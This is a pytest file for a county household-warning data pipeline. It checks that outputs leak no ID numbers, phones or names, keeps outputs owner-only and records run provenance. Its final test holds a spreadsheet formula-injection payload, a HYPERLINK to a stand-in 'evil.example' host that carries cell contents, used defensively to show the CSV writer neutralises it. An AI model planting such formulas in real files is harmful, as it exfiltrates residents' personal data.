"""Confidentiality: township files hold no full ID number, no resident phone and no other
township's households; outputs and the warehouse are readable by the owner only; every run is on
record (who, when, config sha256, input files' sha256); the run's log output and the Prefect
database never carry an ID number or a name.

One real CLI run (a subprocess, logging at INFO so there is something to scan, umask 022 as on
a typical server) on a small county.
"""

from __future__ import annotations

import getpass
import hashlib
import os
import re
import stat
import subprocess
import sys
import zipfile
from datetime import datetime, timedelta, timezone
from pathlib import Path

import duckdb
import polars as pl
import pytest

from config import load_config
from matchers.ids import check_char

ROOT = Path(__file__).resolve().parents[1]
PERIOD = "2026-10"
ID18 = re.compile(r"(?<![0-9A-Za-z])\d{17}[\dXx](?![0-9A-Za-z])")
PHONE = re.compile(r"(?<!\d)1[3-9]\d{9}(?!\d)")


def _valid_ids(text: str) -> set[str]:
    """18-character ID numbers with a valid check character anywhere in `text`."""
    return {m.upper() for m in ID18.findall(text) if check_char(m[:17]) == m[17].upper()}


def _xlsx_text(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "\n".join(z.read(n).decode("utf-8", "replace") for n in z.namelist() if n.endswith(".xml"))


def _read_folder_csv(folder: Path, pattern: str = "*.csv") -> pl.DataFrame:
    return pl.concat([pl.read_csv(p, infer_schema=False, encoding="utf8-lossy") for p in sorted(folder.glob(pattern))],
                     how="diagonal_relaxed")


@pytest.fixture(scope="module")
def run(prefect_harness, tmp_path_factory):
    import prefect.settings
    from sample_data.generate import generate

    county = tmp_path_factory.mktemp("priv_county")
    generate(county, seed=5, periods=(PERIOD,), households=300)
    out = tmp_path_factory.mktemp("priv_out") / "out"
    env = dict(os.environ, PREFECT_API_URL=prefect.settings.PREFECT_API_URL.value(), PREFECT_LOGGING_LEVEL="INFO")
    started = datetime.now(timezone.utc).replace(tzinfo=None)
    proc = subprocess.run(
        [sys.executable, str(ROOT / "flows.py"), "run", "--inbox", str(county / "inbox"), "--period", PERIOD,
         "--out", str(out), "--issue-date", "2026-11-02", "--set", "M1.threshold=4000"],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=300, umask=0o022,
    )
    finished = datetime.now(timezone.utc).replace(tzinfo=None)
    assert proc.returncode == 0, proc.stderr[-3000:]
    inbox = county / "inbox" / PERIOD
    roster = _read_folder_csv(next(d for d in inbox.iterdir() if load_config().folder_of(d.name) == "户籍底册"))
    grid = _read_folder_csv(next(d for d in inbox.iterdir() if load_config().folder_of(d.name) == "网格"))
    db = prefect.settings.PREFECT_SERVER_DATABASE_CONNECTION_URL.value()
    return dict(out=out, inbox=inbox, roster=roster, grid=grid, log=proc.stdout + proc.stderr,
                window=(started, finished), prefect_db=db)


def _town_files(out: Path) -> list[Path]:
    return sorted(p for p in (out / PERIOD / "townships").rglob("*") if p.is_file())


def test_township_files_hold_no_full_id_and_no_resident_phone(run):
    roster, grid = run["roster"], run["grid"]
    roster_ids = set(roster["证件号码"].drop_nulls().str.strip_chars().str.to_uppercase())
    grid_phones = set(grid["网格员电话"].drop_nulls()) | set(grid["网格长电话"].drop_nulls())
    resident_phones = set(roster["联系电话"].drop_nulls()) - grid_phones
    assert len(roster_ids) > 500 and len(resident_phones) > 50  # the scan has something to find
    files = _town_files(run["out"])
    assert any(f.suffix == ".csv" for f in files) and any(f.suffix == ".xlsx" for f in files)
    for f in files:
        text = f.read_text("utf-8-sig") if f.suffix == ".csv" else _xlsx_text(f)
        assert not _valid_ids(text), f"full ID number in {f.name}"
        assert not [i for i in roster_ids if i in text], f"roster ID in {f.name}"
        assert not set(PHONE.findall(text)) & resident_phones, f"resident phone in {f.name}"
        assert not [p for p in resident_phones if p in text], f"resident phone in {f.name}"


def test_a_township_file_holds_its_own_households_only(run):
    town_of = dict(run["roster"].select("户编号", "乡（镇）").unique().iter_rows())
    folders = sorted((run["out"] / PERIOD / "townships").iterdir())
    assert len(folders) >= 3
    for d in folders:
        for f in d.glob("*_预警清单.csv"):
            df = pl.read_csv(f, infer_schema=False)
            assert (df["乡（镇）"] == d.name).all(), f.name
            for hh in df["户编号"].drop_nulls():
                assert town_of.get(hh) in (d.name, None), f"{hh} of {town_of.get(hh)} in {f.name}"
        import openpyxl

        for f in d.glob("*_预警清单.xlsx"):
            wb = openpyxl.load_workbook(f, read_only=True)
            for ws in wb.worksheets:
                rows = list(ws.iter_rows(values_only=True))
                if rows and "户编号" in rows[0]:
                    i, t = rows[0].index("户编号"), rows[0].index("乡（镇）")
                    for r in rows[1:]:
                        assert r[t] == d.name and town_of.get(r[i]) in (d.name, None), (f.name, r[i])
            wb.close()


def test_output_files_and_the_warehouse_are_owner_only(run):
    out = run["out"]
    assert stat.S_IMODE((out / "warehouse.duckdb").stat().st_mode) == 0o600
    # whatever else the run made beside it under umask 022 (its lock; a WAL DuckDB creates itself,
    # which a kill leaves behind) is as private as the warehouse
    beside = {p.name: oct(stat.S_IMODE(p.stat().st_mode)) for p in out.iterdir() if p.is_file()}
    assert "warehouse.duckdb.lock" in beside and set(beside.values()) == {"0o600"}, beside
    files = [p for p in (out / PERIOD).rglob("*") if p.is_file()]
    assert len(files) > 10
    for p in files:
        assert stat.S_IMODE(p.stat().st_mode) == 0o600, p
    for d in (out / PERIOD, out / PERIOD / "county", *(out / PERIOD / "townships").iterdir()):
        assert stat.S_IMODE(d.stat().st_mode) == 0o700, d


def test_every_output_folder_is_owner_only(run):
    dirs = [run["out"] / PERIOD, *(p for p in (run["out"] / PERIOD).rglob("*") if p.is_dir())]
    assert [str(d) for d in dirs if stat.S_IMODE(d.stat().st_mode) != 0o700] == []


def test_the_run_is_on_record_with_who_when_config_and_input_hashes(run):
    con = duckdb.connect(str(run["out"] / "warehouse.duckdb"), read_only=True)
    try:
        runs = con.sql("SELECT * FROM runs").pl()
        deliveries = con.sql("SELECT * FROM deliveries WHERE period = ?", params=[PERIOD]).pl()
    finally:
        con.close()
    assert runs.height == 1
    r = runs.row(0, named=True)
    assert r["period"] == PERIOD and r["status"] == "ok"
    assert r["run_by"] == getpass.getuser() and r["host"]
    lo, hi = run["window"]
    assert lo - timedelta(seconds=1) <= r["started_at"] <= r["finished_at"] <= hi + timedelta(seconds=1)
    cfg = load_config(None, ["M1.threshold=4000"])
    assert r["config_sha256"] == cfg.fingerprint and re.fullmatch(r"[0-9a-f]{64}", r["config_sha256"])
    assert r["config_sha256"] != load_config().fingerprint  # the override is part of what is recorded
    have = dict(deliveries.select("file", "sha256").iter_rows())
    inputs = [p for p in run["inbox"].rglob("*") if p.is_file()]
    assert len(inputs) >= 10
    for p in inputs:
        rel = p.relative_to(run["inbox"]).as_posix()
        assert have.get(rel) == hashlib.sha256(p.read_bytes()).hexdigest(), rel


def _personal(run) -> tuple[set[str], set[str]]:
    roster = run["roster"]
    ids = set(roster["证件号码"].drop_nulls().str.strip_chars().str.to_uppercase())
    names = {n for n in roster["姓名"].drop_nulls().str.strip_chars() if len(n) >= 2}
    return ids, names


def test_log_output_never_prints_id_numbers_or_names(run):
    log = run["log"]
    assert "行数核对" in log and len(log.splitlines()) >= 15  # the summary and the INFO/progress lines were captured
    ids, names = _personal(run)
    assert not _valid_ids(log)
    assert not [i for i in ids if i in log]
    assert not [n for n in names if n in log], [n for n in names if n in log][:5]
    assert not [p for p in run["roster"]["联系电话"].drop_nulls() if p in log]


def test_the_county_html_report_and_the_prefect_database_hold_no_personal_data(run):
    ids, names = _personal(run)
    phones = set(run["roster"]["联系电话"].drop_nulls())
    html = next((run["out"] / PERIOD / "county").glob("*.html"), None)
    places = set(run["roster"]["乡（镇）"].drop_nulls()) | set(run["roster"]["行政村"].drop_nulls())
    assert html is not None  # (县级预警报告.html) the report promises counts only
    text = html.read_text("utf-8")
    assert not _valid_ids(text) and not [p for p in phones if p in text]
    assert not [n for n in names - places if n in text], [n for n in names - places if n in text][:5]
    url = run["prefect_db"]
    if not url or "sqlite" not in url:
        pytest.skip("Prefect database is not a local SQLite file")
    db = Path(url.split("///", 1)[1])
    blob = b"".join(p.read_bytes() for p in db.parent.glob(db.name + "*"))
    text = blob.decode("utf-8", "replace")
    assert "monthly-run" in text  # the run really is in there
    assert not _valid_ids(text)
    digits = set(re.findall(r"\d{17}[\dXx]", text))
    assert not {d.upper() for d in digits} & ids
    chinese = set(re.findall(r"[\u4e00-\u9fff·]{2,}", text))
    hits = [n for n in names - places if any(n in c for c in chinese)]
    assert not hits, hits[:5]


def test_township_csv_cannot_carry_a_spreadsheet_formula(tmp_path):
    """A hostile department value that reaches a township list must not run as a formula in
    Excel/WPS (=HYPERLINK(...) can send the sheet's names and phones anywhere)."""
    from adapters import outputs

    evil = '=HYPERLINK("http://evil.example/?"&E2&F2,"点击核实")'
    df = pl.DataFrame({"预警依据": [f"{evil}", "+1+1", "@SUM(A1)", "正常文字"], "户编号": ["H1", "H2", "H3", "H4"]})
    target = outputs.write_csv(df, tmp_path / "t.csv")
    import csv as _csv

    cells = [c for row in _csv.reader(target.read_text("utf-8-sig").splitlines()) for c in row]
    assert "正常文字" in cells  # ordinary text untouched
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "-")], cells
